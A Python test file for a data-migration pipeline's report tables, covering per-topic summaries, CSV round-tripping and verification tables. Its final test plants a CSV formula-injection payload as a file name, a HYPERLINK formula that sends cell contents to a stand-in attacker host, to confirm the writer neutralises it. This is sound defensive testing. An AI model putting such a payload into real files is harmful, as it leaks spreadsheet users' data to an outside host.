"""The report tables: grouped the way a person asks, every row counted, CSV that reads back the same."""

import io

import pandas as pd

from t2m_pipeline import reports


def files_frame():
    rows = [
        ("output/a/1.py", "topic/a", "Fourier", "ada@example.com", "migrated", 10),
        ("output/a/2.mp4", "topic/a", "Fourier", "ada@example.com", "migrated", 90),
        ("output/a/2.mp4#copy", "topic/a", "Fourier", "bob@example.com", "migrated", 90),
        ("output/a/x.tmp", "topic/a", "Fourier", reports.UNATTRIBUTED, "skipped", 5),
        ("output/b/3.py", "topic/b", "topic/b", reports.UNATTRIBUTED, "migrated", 7),
    ]
    return pd.DataFrame(
        [{"legacy_path": p, "partition": part, "topic": t, "user": u, "outcome": o, "size_bytes": s, "bucket": "",
          "key": "", "job_id": ""} for p, part, t, u, o, s in rows],
        columns=reports.FILE_COLUMNS,
    )


def test_the_summary_is_per_topic_user_and_outcome_and_counts_every_file():
    summary = reports.summarize(files_frame())
    as_rows = {(r.topic, r.user, r.outcome): (r.files, r.bytes) for r in summary.itertuples()}
    assert as_rows == {
        ("Fourier", "ada@example.com", "migrated"): (2, 100),
        ("Fourier", "bob@example.com", "migrated"): (1, 90),
        ("Fourier", reports.UNATTRIBUTED, "skipped"): (1, 5),
        ("topic/b", reports.UNATTRIBUTED, "migrated"): (1, 7),
    }
    assert summary["files"].sum() == len(files_frame())
    assert list(reports.summarize(files_frame().head(0)).columns) == reports.SUMMARY_COLUMNS


def test_the_csv_reads_back_as_the_same_rows():
    frame = files_frame()
    back = pd.read_csv(io.BytesIO(reports.to_csv(frame)), keep_default_na=False)
    assert back["legacy_path"].tolist() == frame["legacy_path"].tolist()
    assert back["size_bytes"].sum() == frame["size_bytes"].sum()


def test_verify_problems_and_findings_tables():
    result = {"by_partition": {
        "topic/b": {"ok": False, "files": 2, "ledger_rows": 2, "objects_checked": 1, "copies": 0, "unattributed": 0, "problem_count": 3},
        "topic/a": {"ok": True, "files": 4, "ledger_rows": 5, "objects_checked": 5, "copies": 1, "unattributed": 0, "problem_count": 0},
    }}
    verify = reports.verify_table(result)
    assert verify["partition"].tolist() == ["topic/a", "topic/b"] and verify["passed"].tolist() == [True, False]
    problems = reports.problems_table([
        {"legacy_path": "p1", "partition": "topic/b", "problem": "missing in S3"},
        {"legacy_path": "p2", "partition": "topic/b", "problem": "missing in S3"},
        {"legacy_path": "p3", "partition": "topic/b", "problem": "under another user"},
    ])
    assert [tuple(r) for r in problems.itertuples(index=False)] == [("missing in S3", 2), ("under another user", 1)]
    assert reports.problems_table([]).empty
    findings = reports.findings_table({"orphan_object": {"WARNING": 2, "INFO": 1}, "missing_object": {"ERROR": 1}})
    assert [tuple(r) for r in findings.itertuples(index=False)] == [
        ("missing_object", "ERROR", 1), ("orphan_object", "INFO", 1), ("orphan_object", "WARNING", 2)]


def test_a_hostile_file_name_cannot_become_a_spreadsheet_formula():
    frame = files_frame()
    frame.loc[0, "legacy_path"] = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    frame.loc[1, "topic"] = "@SUM(1+1)"
    back = pd.read_csv(io.BytesIO(reports.to_csv(frame)), keep_default_na=False)
    assert back["legacy_path"][0].startswith("'=") and back["topic"][1] == "'@SUM(1+1)"
    assert back["legacy_path"][2] == "output/a/2.mp4#copy" and back["size_bytes"].sum() == frame["size_bytes"].sum()
    # the control: without it, the cell starts the formula a spreadsheet would run
    raw = pd.read_csv(io.BytesIO(reports.to_csv(frame, neutralize_formulas=False)), keep_default_na=False)
    assert raw["legacy_path"][0].startswith("=HYPERLINK")
